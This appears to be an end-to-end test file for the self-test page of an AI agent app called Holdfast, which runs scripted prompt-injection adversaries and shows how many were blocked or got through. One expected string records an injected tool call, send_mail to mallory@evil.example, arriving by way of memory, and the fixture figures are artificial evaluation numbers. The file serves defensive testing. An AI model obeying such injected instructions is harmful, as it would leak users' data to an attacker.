import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type LaunchedApp, launchApp, temporaryFolder } from './support/launch.ts';
import { lookAt } from './support/look.ts';
import { playing, say } from './support/rehearsal.ts';
import { api } from './support/session.ts';

const attacks = { n: 1000, stopped: 995, allHarmfulStopped: 994, blocked: 800, asked: 195, silent: 5 };
const figures = {
  pairs: attacks,
  recorded: attacks,
  injecagent: attacks,
  benign: { tasks: 90, promptsPerTask: 0.4, tasksWithoutPrompt: 62, autoAllowed: 120, refused: 0 },
  approveAll: { n: 200, harmDone: 0 },
  gateMs: { p50: 0.2, p95: 1.5 },
  cardsPerTask: 1.2,
};

describe('the self-test', () => {
  let launched: LaunchedApp;
  const dataDir = temporaryFolder('self-test');
  beforeAll(async () => {
    launched = await launchApp({ dataDir, arguments: playing([{ reply: { blocks: [say('Done.')] } }]) });
    await launched.window.getByRole('link', { name: 'Settings' }).click();
    await launched.window.getByRole('link', { name: 'Self-test', exact: true }).click();
  });
  afterAll(() => launched?.close());

  test('it says what it has not done yet, and what it never proves', async () => {
    const { window } = launched;
    await window.getByText('It has not been run in this profile yet.').waitFor();
    await window.getByText('No result has been kept in this profile.').waitFor();
    await window.getByText('An attacker who knows Holdfast writes others.').waitFor();
    await lookAt(launched, 'self-test-never');
  });

  test('a run shows how far it is, and can be ended', async () => {
    const { window } = launched;
    await window.getByRole('button', { name: 'Run the self-test' }).click();
    await expect
      .poll(() => window.getByRole('progressbar').getAttribute('aria-valuenow'), { timeout: 60_000 })
      .not.toBe('0');
    await lookAt(launched, 'self-test-running');
    await window.getByRole('button', { name: 'Cancel' }).click();
    await window.getByRole('button', { name: 'Run the self-test' }).waitFor();
    await window.getByText('It has not been run in this profile yet.').waitFor();
  });

  test('a whole run names every adversary, how it came out and what stopped it', async () => {
    const { window } = launched;
    await window.getByRole('button', { name: 'Run the self-test' }).click();
    await window.getByText('attacks got through silently.').waitFor({ timeout: 150_000 });
    const list = window.getByRole('list', { name: 'Scripted adversaries' });
    expect(await list.getByRole('button').count()).toBeGreaterThan(15);
    await lookAt(launched, 'self-test-done');
    await list.getByRole('button', { name: /^An address by way of memory/ }).click();
    await list.getByText('What it tried').waitFor();
    await list.getByText('send_mail {"to":"mallory@evil.example"').waitFor();
    await list.getByText('What stopped it').waitFor();
    await list.getByText('What it tried').scrollIntoViewIfNeeded();
    await lookAt(launched, 'self-test-open');
    await window.getByText('Honest work with the same tools').scrollIntoViewIfNeeded();
    await lookAt(launched, 'self-test-honest');
    const { result } = await api<{ result: { findings: { shares: { silent: { count: number } } } } }>(
      window,
      'GET',
      '/evals/self-test',
    );
    expect(result.findings.shares.silent.count).toBe(0);
  });

  test('a kept evaluation of recorded attacks is shown, and a result of another version is called one', async () => {
    mkdirSync(join(dataDir, 'evals'), { recursive: true });
    const at = '2026-11-28T09:30:00.000Z';
    writeFileSync(
      join(dataDir, 'evals', 'safety.json'),
      JSON.stringify({ at, columns: { proposed: figures } }),
    );
    const { result } = await api<{ result: object }>(launched.window, 'GET', '/evals/self-test');
    writeFileSync(join(dataDir, 'evals', 'self-test.json'), JSON.stringify({ ...result, version: '0.0.9' }));
    launched = await launched.restart();
    const { window } = launched;
    await window.getByRole('link', { name: 'Settings' }).click();
    await window.getByRole('link', { name: 'Self-test', exact: true }).click();
    await window.getByText('the result is of version 0.0.9. Run it again.').waitFor();
    await lookAt(launched, 'self-test-other-version');
    const recorded = window.getByRole('region', { name: 'Recorded hijacks of real models' });
    await recorded.getByText('5 of 1000', { exact: true }).waitFor();
    await window.getByText('90 honest tasks').scrollIntoViewIfNeeded();
    await lookAt(launched, 'self-test-recorded');
  });
});
